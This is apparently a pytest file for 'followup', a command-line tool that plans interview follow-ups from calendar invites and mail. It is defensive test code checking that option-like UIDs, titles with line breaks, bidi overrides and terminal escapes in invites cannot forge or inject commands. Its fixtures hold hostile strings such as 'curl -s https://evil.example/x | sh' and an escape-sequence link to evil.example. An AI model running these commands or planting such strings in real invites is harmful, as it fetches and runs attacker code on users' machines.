"""The surface added for asked events, answers and mail, tried as whoever writes an invite
would: every command followup shows for an event runs as shown, whatever its UID says.

Each test goes through the real command: the command is read from what followup
printed and run as a person would paste it (``shlex.split``, then ``followup``).
"""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from followup.cli.main import main
from followup.engine.answers import load_answers
from followup.engine.config import config_dir
from followup.engine.marks import load_marks
from tests.conftest import ROOT
from tests.everyday_support import run
from tests.mail_server import PASSWORD, USER, MailServer, dovecot
from tests.test_applications import calendar, event
from tests.test_mail import NOW as MAIL_NOW
from tests.test_mail import at
from tests.test_mail import event as mail_event

NOW = "2026-11-30T08:00"
EXAMPLE = ROOT / "examples" / "interviews.ics"

OPTION_UIDS = ["-x@evil.example", "--help", "--from=/etc/passwd", "--rules=/tmp/evil.yaml"]
"""UIDs an invite may carry that a command line reads as options."""


def asked(uid: str) -> str:
    """An event followup asks about (notes that name a company under a title with no
    interview word)."""
    return event(uid, "20261203T090000Z", "Chat with Jane", "DESCRIPTION:Company: Globex")


def shown_command(text: str, start: str, *options: str) -> list[str]:
    """The arguments of the command that ``text`` shows in backquotes after ``start``, with
    ``options`` added after its subcommand, where options go whatever follows."""
    after = text.split(start, 1)[1]
    command = after[after.index("`") + 1 :].split("`", 1)[0]
    return pasted(command, *options)


def pasted(command: str, *options: str) -> list[str]:
    words = shlex.split(command)
    assert words[0] == "followup", command
    return [words[1], *options, *words[2:]]


@pytest.mark.parametrize("uid", OPTION_UIDS)
def test_the_answer_command_a_warning_shows_answers_an_event_whose_uid_looks_like_an_option(
    tmp_path: Path, uid: str
) -> None:
    path = tmp_path / "calendar.ics"
    path.write_bytes(calendar(asked(uid)))
    plan = run("plan", "--from", str(path), "--now", NOW)
    assert plan.code == 0, plan.err
    command = shown_command(
        plan.err, "is it an interview? answer with", "--from", str(path), "--now", NOW
    )
    answered = run(*command)
    assert answered.code == 0, answered.err + answered.out
    assert answered.out.startswith("Answered: Chat with Jane")
    assert load_answers()[uid].interview is True


@pytest.mark.parametrize("uid", OPTION_UIDS[:2])
def test_the_forget_command_explain_shows_takes_back_an_answer_for_such_a_uid(
    tmp_path: Path, uid: str
) -> None:
    path = tmp_path / "calendar.ics"
    path.write_bytes(calendar(asked(uid)))
    first = run("answer", "--from", str(path), "--now", NOW, "--", uid, "not-interview")
    assert first.code == 0, first.err
    explained = run("explain", "--from", str(path), "--now", NOW)
    assert explained.code == 0, explained.err
    command = shown_command(explained.out, "to be asked again:", "--from", str(path), "--now", NOW)
    forgot = run(*command)
    assert forgot.code == 0, forgot.err + forgot.out
    assert uid not in load_answers()


# -- mail: the command that accepts an unverified reply ----------------------------------


@pytest.fixture
def server() -> Iterator[MailServer]:
    with dovecot() as running:
        yield running


def unverified_mail(
    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uid: str, title: str
) -> tuple[Path, str]:
    """``followup mail`` on one interview and an unchecked message from its recruiter."""
    path = tmp_path / "interviews.ics"
    path.write_text(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\n"
        + mail_event(
            uid,
            title,
            "20261120T100000",
            "Company: ACME\\nRecruiter: Dana Smith <dana@acme.example>",
        )
        + "END:VCALENDAR\r\n",
        newline="",
    )
    monkeypatch.setenv("MAIL_PASSWORD", PASSWORD)
    folder = config_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.toml").write_text(
        f'[mail]\nhost = "localhost"\nport = {server.port}\nusername = "{USER}"\n'
        f'password_env = "MAIL_PASSWORD"\nca_file = "{server.cert}"\ntimeout = 10\n'
    )
    server.append(
        sender="dana@acme.example",
        subject="Re: Thank you",
        date=at(2026, 11, 25, 16, 0),
        message_id="<unchecked@acme.example>",
        authentication=None,
    )
    result = run("mail", "--from", str(path), "--now", MAIL_NOW)
    assert result.code == 0, result.err
    assert load_marks() == {}
    return path, result.out


def test_the_command_that_accepts_an_unverified_reply_marks_an_interview_whose_uid_is_an_option(
    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    uid = "--note=forged"
    path, out = unverified_mail(server, tmp_path, monkeypatch, uid, "Interview with ACME")
    shown = out.split("If it is theirs: ", 1)[1].splitlines()[0]
    accepted = run(*pasted(shown, "--from", str(path), "--now", MAIL_NOW))
    assert accepted.code == 0, accepted.err + accepted.out
    assert load_marks()[uid].status == "replied"
    assert load_marks()[uid].note == "mail from dana@acme.example on 2026-11-25, unverified"


def test_a_title_with_line_breaks_cannot_add_a_command_to_mails_report(
    server: MailServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    title = "Interview with ACME\\nIf it is theirs: curl -s https://evil.example/x | sh"
    _, out = unverified_mail(server, tmp_path, monkeypatch, "acme@test", title)
    lines = out.splitlines()
    assert [line for line in lines if line.startswith("If it is theirs")] == []
    [line] = [line for line in lines if "If it is theirs: followup mark" in line]
    assert line.startswith("Interview with ACME If it is theirs: curl")


# -- text that is not UTF-8 on the command line ---------------------------------------------

UNREADABLE = b"caf\xe9".decode("utf-8", "surrogateescape")
"""What Python makes of a Latin-1 'café' typed in a terminal that is not UTF-8."""


@pytest.mark.parametrize(
    "args",
    [
        ["answer", UNREADABLE, "interview"],
        ["answer", UNREADABLE, "interview", "--from", str(EXAMPLE)],
        ["mark", "ACME", "replied", "--note", UNREADABLE, "--from", str(EXAMPLE)],
        ["ics", "--from", str(EXAMPLE), "--now", NOW, "--name", UNREADABLE],
        ["init", "--yes", "--from", str(EXAMPLE), "--name", UNREADABLE],
        ["init", "--yes", "--from", str(EXAMPLE), "--signature", UNREADABLE],
    ],
    ids=["answer", "answer-from", "mark-note", "ics-name", "init-name", "init-signature"],
)
def test_text_the_command_line_could_not_read_as_utf8_is_one_message_and_nothing_is_written(
    args: list[str], isolated_home: Path
) -> None:
    result = CliRunner().invoke(main, args)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 2, result.output
    assert "'caf\ufffd' is not UTF-8 text" in result.output
    assert list((isolated_home / "data").rglob("*.toml")) == []


# -- per-person drafts ------------------------------------------------------------------------


def test_an_interviewers_name_in_a_per_person_draft_note_cannot_reorder_the_terminal(
    tmp_path: Path,
) -> None:
    """One thank-you per interviewer: the note about each draft's gaps names its person, as
    the invite spells them; a bidi override (U+202E) or an escape is shown, never obeyed."""
    names = ["Zo\u00eb \u202eevil", "Eve \x1b]8;;https://evil.example\x07Smith"]
    people = "".join(
        f'ATTENDEE;CN="{name}":mailto:p{n}@acme.example\r\n' for n, name in enumerate(names)
    )
    path = tmp_path / "calendar.ics"
    path.write_bytes(
        (
            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\nBEGIN:VEVENT\r\n"
            "UID:acme@x\r\nDTSTAMP:20261101T000000Z\r\nDTSTART:20261125T100000Z\r\n"
            "DTEND:20261125T110000Z\r\nSUMMARY:Entrevista con ACME\r\n"
            "DESCRIPTION:Empresa: ACME\\nReclutadora: Dana <dana@acme.example>\r\n"
            + people
            + "END:VEVENT\r\nEND:VCALENDAR\r\n"
        ).encode()
    )
    rules = str(ROOT / "rules" / "default.es.yaml")
    result = run(
        "draft", "ACME", "thank-you", "--from", str(path), "--now", "2026-11-26T08:00",
        "--rules", rules,
    )  # fmt: skip
    assert result.code == 0, result.err
    assert "note: the draft for Zo\u00eb \ufffdevil has gaps" in result.err
    for unsafe in ("\u202e", "\x1b", "\x07"):
        assert unsafe not in result.err and unsafe not in result.out


# -- titles with line breaks -----------------------------------------------------------------

FORGED = (
    "Chat with Jane\\n\\nwarning: your rules are out of date; run "
    "`curl -s https://evil.example/fix | sh` to update them"
)
"""A title whose second line reads as one of followup's own warnings."""


def test_a_title_with_line_breaks_adds_no_line_to_plans_warnings(tmp_path: Path) -> None:
    path = tmp_path / "calendar.ics"
    path.write_bytes(calendar(asked("a@x").replace("Chat with Jane", FORGED)))
    result = run("plan", "--from", str(path), "--now", NOW)
    assert result.code == 0, result.err
    [line] = result.err.splitlines()
    assert line.startswith("warning: Chat with Jane  warning: your rules are out of date")
    assert line.endswith("(or not-interview)")


def test_review_shows_a_title_with_line_breaks_on_its_own_line(tmp_path: Path) -> None:
    path = tmp_path / "calendar.ics"
    path.write_bytes(calendar(asked("a@x").replace("Chat with Jane", FORGED)))
    result = run("review", "--from", str(path), "--now", NOW, input="s\n")
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert "1 of 1: Chat with Jane  warning: your rules are out of date; run " in result.out
    assert not any(line.startswith("warning:") for line in lines)


def test_explain_shows_a_title_with_line_breaks_on_one_line(tmp_path: Path) -> None:
    path = tmp_path / "calendar.ics"
    interview = event("i@x", "20261125T100000Z", "Interview with ACME\\nwarning: x", "")
    path.write_bytes(calendar(asked("a@x").replace("Chat with Jane", FORGED), interview))
    result = run("explain", "--from", str(path), "--now", NOW)
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert not any(line.startswith("warning:") for line in lines), result.out
    assert "Interview with ACME warning: x" in lines
    assert any(line.startswith("  Chat with Jane  warning: your rules") for line in lines)
